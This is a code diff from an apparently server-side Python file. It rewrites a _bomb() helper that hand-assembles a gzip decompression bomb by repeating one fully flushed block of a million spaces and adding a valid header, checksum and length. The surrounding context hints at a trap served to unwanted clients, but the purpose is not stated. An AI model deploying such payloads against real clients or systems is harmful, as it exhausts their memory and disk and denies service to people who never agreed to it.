@@ -89,7 +89,16 @@ def _replacement(name: str, given: dict[str, Any]) -> Response:
 
 @lru_cache(maxsize=1)
 def _bomb() -> bytes:
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
+    """Gzip put together by hand: a full flush makes one packed block repeatable.  Source: RFC 1951, 1952."""
     block = b" " * 1_000_000
-    packed = [packer.compress(block) for _ in range(BOMB_BYTES // len(block))]
-    return b"".join((*packed, packer.compress(b"{}"), packer.flush()))
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
+    last = zlib.compressobj(9, zlib.DEFLATED, -15)
+    end = last.compress(b"{}") + last.flush()
+    checksum = 0
+    for _ in range(BOMB_BYTES // len(block)):
+        checksum = zlib.crc32(block, checksum)
+    checksum = zlib.crc32(b"{}", checksum)
+    head = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
+    tail = checksum.to_bytes(4, "little") + (BOMB_BYTES + 2).to_bytes(4, "little")
+    return head + packed * (BOMB_BYTES // len(block)) + end + tail
